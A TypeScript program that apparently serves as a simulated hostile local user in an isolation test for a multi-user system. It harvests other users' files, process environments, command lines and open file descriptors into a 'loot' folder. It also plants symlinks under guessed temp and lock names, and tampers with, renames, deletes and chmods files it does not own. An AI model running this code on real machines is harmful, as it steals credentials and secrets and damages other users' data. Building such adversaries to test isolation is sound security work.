import { hash } from "node:crypto";
import {
  appendFileSync,
  chmodSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  renameSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from "node:fs";
import { basename, dirname, join } from "node:path";
import { setImmediate as breathe } from "node:timers/promises";

/**
 * Another user of the machine, as a process of its own: until it is stopped, it reads all it can and tries to change files
 * of other users. It saves what it read in its folder `loot`, and what it changed in its file `done`.
 */
const [own = "", victim = "", precious = "", ...places] = process.argv.slice(2);
const self = process.geteuid?.();
const known = new Set<string>();

let stopped = false;
process.on("SIGTERM", () => {
  stopped = true;
});

function attempt<T>(step: () => T): T | undefined {
  try {
    return step();
  } catch {
    return undefined;
  }
}

function note(what: string, path: string): void {
  appendFileSync(join(own, "done"), `${what} ${path}\n`);
}

/** Keeps what could be read, once. */
function take(bytes: Buffer | string | undefined): void {
  if (bytes === undefined) return;
  const name = hash("sha256", bytes);
  if (known.has(name)) return;
  known.add(name);
  writeFileSync(join(own, "loot", name), bytes);
}

/** Puts something of its own under each name that a program might use next to one that it uses. */
function plant(folder: string, names: readonly string[]): void {
  for (const name of names) {
    const path = join(folder, name);
    if (attempt(() => symlinkSync(precious, path)) === undefined) continue;
    if (attempt(() => lstatSync(folder).uid) !== self && !places.includes(folder)) note("planted", path);
  }
}

function guesses(path: string): string[] {
  const name = basename(path);
  return ["part", "tmp", "draft", "lock", "site", "1"].map((ending) => `${name}.${ending}`);
}

function attack(path: string): void {
  const found = attempt(() => lstatSync(path));
  if (found === undefined) return;
  if (found.isDirectory())
    for (const name of attempt(() => readdirSync(path)) ?? []) attack(join(path, name));
  else if (found.isFile()) take(attempt(() => readFileSync(path)));
  if (found.uid === self) return;
  plant(dirname(path), guesses(path));
  if (found.isFile() && change(() => appendFileSync(path, "EVIL", { flag: "r+" }))) note("wrote", path);
  if (places.includes(path)) return;
  if (change(() => renameSync(path, `${path}.taken`))) note("renamed", path);
  if (change(() => unlinkSync(path))) note("removed", path);
  if (change(() => chmodSync(path, 0o777))) note("opened", path);
}

function change(step: () => void): boolean {
  return (
    attempt(() => {
      step();
      return true;
    }) ?? false
  );
}

/** What the system shows of other users' processes. */
function watchProcesses(): void {
  for (const id of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
    const folder = join("/proc", id);
    if (attempt(() => lstatSync(folder).uid) !== Number(victim)) continue;
    for (const name of ["environ", "cmdline", "maps", "cwd/.env"])
      take(attempt(() => readFileSync(join(folder, name))));
    for (const fd of attempt(() => readdirSync(join(folder, "fd"))) ?? [])
      take(attempt(() => readFileSync(readlinkSync(join(folder, "fd", fd)))));
  }
}

mkdirSync(join(own, "loot"));
writeFileSync(join(own, "done"), "");
for (const place of places)
  plant(place, ["provider-pages", "provider-pages-demo", "provider-pages-preview", ".provider-pages.lock"]);
process.stdout.write("at it\n");
while (!stopped) {
  for (const place of places) attack(place);
  watchProcesses();
  await breathe();
}
